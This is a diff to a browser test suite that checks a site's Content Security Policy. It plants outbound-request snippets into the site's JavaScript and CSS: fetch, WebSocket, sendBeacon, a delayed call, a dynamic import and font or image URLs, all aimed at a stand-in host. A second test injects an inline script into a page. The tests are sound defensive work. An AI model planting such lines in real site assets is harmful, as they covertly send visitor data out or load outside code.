@@ -3,6 +3,7 @@
 import pytest
 
 from tests.gates import findings
+from tests.gates.conftest import SITE
 
 pytestmark = pytest.mark.browser
 
@@ -39,6 +40,40 @@ def test_clean_page_has_no_findings(planted):
 def test_request_to_another_host_is_found(planted, html):
     page = planted(html)
     assert any("elsewhere.example" in url for url in findings.other_hosts(page))
+
+
+AWAY = "//elsewhere.example/a"
+
+
+@pytest.mark.parametrize(
+    ("name", "leak"),
+    [
+        ("mends.js", f'fetch("{AWAY}").catch(() => 0)'),
+        ("mends.js", f'new WebSocket("wss:{AWAY}")'),
+        ("mends.js", f'setTimeout(() => fetch("{AWAY}").catch(() => 0), 50_000)'),
+        ("mends.js", f'addEventListener("pagehide", () => navigator.sendBeacon("{AWAY}"))'),
+        ("mends.js", f'navigator.sendBeacon("{AWAY}")'),
+        ("mends.js", f'import("{AWAY}").catch(() => 0)'),
+        ("mends.js", f'new Image().src = "{AWAY}"'),
+        ("book.css", f'body {{ background: image-set("{AWAY}" 1x) }}'),
+        ("book.css", f'@font-face {{ font-family: "Book Serif"; src: url("{AWAY}") }}'),
+    ],
+)
+def test_what_leaks_is_refused_by_the_policy(visit, name, leak):
+    own = (SITE / "assets" / name).read_text("utf-8")
+    page = visit("index.html", planted={name: f"{own}\n{leak}"}, hastened=True)
+    findings.asked_in_time(page)
+    assert any("Content Security Policy" in said for said in page.complaints)
+    page.context.close()
+
+
+def test_a_script_in_a_lesson_is_refused_by_the_policy(visit):
+    own = (SITE / "404.html").read_text("utf-8")
+    bad = own.replace("</article>", "<script>document.title = 'ran'</script></article>")
+    page = visit("404.html", planted={"404.html": bad})
+    assert page.title() != "ran"
+    assert any("Content Security Policy" in said for said in page.complaints)
+    page.context.close()
 
 
 @pytest.mark.parametrize(("rule", "html"), [
